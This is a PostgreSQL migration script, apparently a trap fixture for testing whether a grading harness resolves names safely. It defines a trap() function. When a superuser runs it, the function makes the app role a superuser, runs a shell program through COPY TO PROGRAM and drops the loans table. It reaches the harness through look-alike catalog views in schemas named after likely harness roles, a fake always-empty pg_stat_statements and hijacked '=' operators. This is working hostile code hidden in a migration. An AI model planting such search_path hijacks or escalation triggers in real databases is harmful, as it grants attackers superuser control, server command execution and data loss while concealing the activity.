-- The reference app plus traps for the harness. Schemas named after the roles the harness
-- might connect as (its superuser, the server's default one, the two logins it makes for
-- this database), where the default search_path ("$user", public) would look first, hold
-- look-alikes of the app's tables and of the catalog and statistics views the harness
-- reads; a lying pg_stat_statements sits in public, where the extension usually lives; and
-- operators on the types the harness compares. Each look-alike calls public.trap(), which,
-- run by a superuser, makes the app's role a superuser, runs a program on the database
-- server and drops a table the checks need. Run with less, it does nothing: the probes
-- never resolve a name through these schemas, so the app is graded as the reference it is.
-- What every look-alike of pg_stat_statements says: nothing ever ran.
CREATE VIEW public.fake_statements AS
  SELECT 0::oid AS userid, 0::oid AS dbid, 0::bigint AS queryid, ''::text AS query, 0::bigint AS calls,
         0::bigint AS rows, 0::bigint AS shared_blks_hit, 0::bigint AS shared_blks_read
  WHERE false;

DO $migration$
DECLARE
  app text := current_user;
  s text;
  v text;
BEGIN
  EXECUTE format($f$
    CREATE FUNCTION public.trap() RETURNS boolean LANGUAGE plpgsql AS $body$
    BEGIN
      IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user) THEN
        EXECUTE %L;
        BEGIN
          COPY (SELECT 'pwned') TO PROGRAM 'touch /tmp/harness-pwned';
        EXCEPTION WHEN others THEN NULL;
        END;
        DROP TABLE IF EXISTS public.loans CASCADE;
      END IF;
      RETURN true;
    END $body$ $f$, format('ALTER ROLE %I SUPERUSER', app));

  FOREACH s IN ARRAY ARRAY['harness', 'postgres', app || '_stats', app || '_probe'] LOOP
    EXECUTE format('CREATE SCHEMA %I', s);
    FOREACH v IN ARRAY ARRAY['books', 'authors', 'members', 'loans', 'schema_migrations'] LOOP
      EXECUTE format('CREATE VIEW %I.%I AS SELECT * FROM public.%I WHERE public.trap()', s, v, v);
    END LOOP;
    FOREACH v IN ARRAY ARRAY['pg_stat_activity', 'pg_class', 'pg_namespace', 'pg_roles', 'pg_database',
                             'pg_extension', 'pg_index', 'pg_indexes', 'pg_constraint'] LOOP
      EXECUTE format('CREATE VIEW %I.%I AS SELECT * FROM pg_catalog.%I WHERE public.trap()', s, v, v);
    END LOOP;
    EXECUTE format('CREATE VIEW %I.pg_stat_statements AS SELECT * FROM public.fake_statements '
                   'WHERE public.trap()', s);
    EXECUTE format('CREATE FUNCTION %I.current_setting(text) RETURNS text LANGUAGE sql AS '
                   '$$ SELECT CASE WHEN public.trap() THEN pg_catalog.current_setting($1) END $$', s);
    EXECUTE format('CREATE FUNCTION %I.pg_relation_size(regclass) RETURNS bigint LANGUAGE sql AS '
                   '$$ SELECT CASE WHEN public.trap() THEN pg_catalog.pg_relation_size($1) END $$', s);
  END LOOP;
END $migration$;

-- Where pg_stat_statements usually lives (when the extension is not there).
DO $public$
BEGIN
  IF pg_catalog.to_regclass('public.pg_stat_statements') IS NULL THEN
    CREATE VIEW public.pg_stat_statements AS SELECT * FROM public.fake_statements WHERE public.trap();
  END IF;
END $public$;
CREATE VIEW public.pg_stat_activity AS SELECT * FROM pg_catalog.pg_stat_activity WHERE public.trap() AND false;

-- Operators on the types a probe compares (a role's name with text, text with text).
CREATE FUNCTION public.trap_eq(name, text) RETURNS boolean LANGUAGE sql AS
  $$ SELECT public.trap() AND $1::text OPERATOR(pg_catalog.=) $2 $$;
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.trap_eq);
CREATE FUNCTION public.trap_text_eq(text, text) RETURNS boolean LANGUAGE sql AS
  $$ SELECT public.trap() AND $1 OPERATOR(pg_catalog.=) $2 $$;
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.trap_text_eq);
